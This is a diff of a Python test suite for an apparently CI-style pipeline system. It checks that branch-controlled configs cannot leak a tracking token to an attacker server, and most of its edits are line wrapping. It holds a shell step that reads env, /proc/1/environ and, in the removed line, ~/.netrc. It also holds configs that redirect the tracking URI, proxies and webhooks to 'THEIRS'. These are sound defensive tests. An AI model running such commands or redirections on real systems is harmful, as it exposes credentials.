@@ -45,7 +45,8 @@ class Listening(http.server.BaseHTTPRequestHandler):
             self.send_header("Content-Length", "0")
             self.end_headers()
             return
-        content = json.dumps({"experiment": {"experiment_id": "1"}, "experiments": [], "model_versions": [], "registered_models": []}).encode()
+        content = json.dumps({"experiment": {"experiment_id": "1"}, "experiments": [], "model_versions": [],
+                              "registered_models": []}).encode()
         self.send_response(200)
         self.send_header("Content-Type", "application/json")
         self.send_header("Content-Length", str(len(content)))
@@ -59,7 +60,7 @@ class Listening(http.server.BaseHTTPRequestHandler):
 
 
 REGISTER = {
-    "attack": 'env; tr "\\0" "\\n" < /proc/1/environ; cat ~/.netrc; echo model_uri=runs:/0123456789abcdef0123456789abcdef/model >> $ESPALIER_OUTPUT',
+    "attack": 'env; tr "\\0" "\\n" < /proc/1/environ; echo model_uri=runs:/0123456789abcdef0123456789abcdef/model >> $ESPALIER_OUTPUT',
     "register": {"needs": ["attack"], "register": {"model": "${steps.attack.outputs.model_uri}"}},
 }
 
@@ -96,11 +97,14 @@ ATTACKS = {
     "user-in-the-url": ("release/user", {"environments/prod.yml": prod("http://OURHOST@THEIRHOST")}),
     "fragment": ("release/fragment", {"environments/prod.yml": prod("THEIRS/#OURHOST")}),
     "feature": ("feature/named", {"environments/dev.yml": 'branches: ["feature/**"]\n' + registry("THEIRS")}),
-    "variable": ("feature/variable", {"environments/dev.yml": 'branches: ["feature/**"]\nenv: { MLFLOW_TRACKING_URI: "THEIRS" }\n' + registry("OURS")}),
-    "proxy": ("feature/proxy", {"environments/dev.yml": 'branches: ["feature/**"]\nenv: { http_proxy: "THEIRS", ALL_PROXY: "THEIRS", no_proxy: "" }\n'}),
+    "variable": ("feature/variable", {
+        "environments/dev.yml": 'branches: ["feature/**"]\nenv: { MLFLOW_TRACKING_URI: "THEIRS" }\n' + registry("OURS")}),
+    "proxy": ("feature/proxy", {
+        "environments/dev.yml": 'branches: ["feature/**"]\nenv: { http_proxy: "THEIRS", ALL_PROXY: "THEIRS", no_proxy: "" }\n'}),
     "new-environment": ("other/x", {"environments/other.yml": 'branches: ["other/**"]\nprotected: true\n' + registry("THEIRS"),
                                     "pipelines/other.yml": pipeline(REGISTER, on="push: { environment: other }")}),
-    "notices": ("release/notices", {"environments/prod.yml": prod("OURS", 'notify: { x: { on: [failed], webhook: { url: "THEIRS" } } }\n')}),
+    "notices": ("release/notices", {
+        "environments/prod.yml": prod("OURS", 'notify: { x: { on: [failed], webhook: { url: "THEIRS" } } }\n')}),
 }
 
 
@@ -110,7 +114,8 @@ def test_an_address_of_a_branch_gets_no_token(project, servers, name):
     ours, theirs = servers
     branch, files = ATTACKS[name]
     theirs.seen.clear()
-    swap = {"OURHOST": ours.url.removeprefix("http://"), "THEIRHOST": theirs.url.removeprefix("http://"), "OURS": ours.url, "THEIRS": theirs.url}
+    swap = {"OURHOST": ours.url.removeprefix("http://"), "THEIRHOST": theirs.url.removeprefix("http://"), "OURS": ours.url,
+            "THEIRS": theirs.url}
     for word, value in swap.items():
         files = {path: text.replace(word, value) for path, text in files.items()}
     run = attempt(project, branch, files, "registry", "environments/", "release/", "other/", "prod")
@@ -127,7 +132,8 @@ def test_a_redirect_takes_no_token_along(attacked_once, servers):
     _, theirs = servers
     theirs.seen.clear()
     with Listener(elsewhere=theirs.url).serving() as leading:
-        project = attacked_once({"environments/prod.yml": prod(leading.url), "pipelines/release.yml": pipeline(REGISTER, on="push: { environment: prod }")},
+        project = attacked_once({"environments/prod.yml": prod(leading.url),
+                                 "pipelines/release.yml": pipeline(REGISTER, on="push: { environment: prod }")},
                                 env={"MLFLOW_TRACKING_TOKEN": TOKEN})
         project.push("main:refs/heads/release/1")
         project.until(lambda: leading.has_token(), "the operator's own server is asked, with the token")
